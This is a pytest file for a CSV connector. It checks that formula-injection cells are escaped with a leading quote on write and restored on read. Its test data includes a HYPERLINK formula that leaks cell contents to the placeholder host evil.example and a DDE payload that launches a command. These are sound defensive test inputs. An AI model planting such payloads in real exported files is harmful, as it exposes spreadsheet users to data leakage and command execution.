"""Formula cells are neutralised on write and read back unchanged."""

from __future__ import annotations

from pathlib import Path

import pytest

from connectors.csv.cells import neutralise, unguard, write_csv
from connectors.csv.mapping import load_mapping
from connectors.csv.reader import read_invoices
from tests.factories import CANONICAL_HEADER, canonical_row

ATTACKS = [
    '=HYPERLINK("https://evil.example/?x="&A1, "click")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("cell", ATTACKS)
def test_a_formula_cell_is_written_as_text_and_read_back_as_it_was(cell: str) -> None:
    assert neutralise(cell) == "'" + cell
    assert unguard(neutralise(cell)) == cell


@pytest.mark.parametrize("cell", ["-12.50", "+3", "-1,234.56", "12500.00", "Northwind", "", "'quoted'"])
def test_numbers_and_plain_text_are_left_alone(cell: str) -> None:
    assert neutralise(cell) == cell
    assert unguard(cell) == cell


def test_text_that_already_looks_guarded_survives_the_round_trip() -> None:
    assert neutralise("'=1") == "''=1"
    assert unguard("''=1") == "'=1"


def test_a_written_file_imports_back_unchanged(tmp_path: Path) -> None:
    row = canonical_row(customer_name='=HYPERLINK("https://evil.example")', amount="-12.50")
    path = tmp_path / "out.csv"
    write_csv(path, CANONICAL_HEADER, [[row[h] for h in CANONICAL_HEADER]])
    assert path.read_text().splitlines()[1].split(",")[2] == '"\'=HYPERLINK(""https://evil.example"")"'
    result = read_invoices(path, load_mapping(None))
    assert result.rejects == []
    (loaded,) = result.rows
    assert (loaded.customer_name, str(loaded.amount)) == ('=HYPERLINK("https://evil.example")', "-12.50")
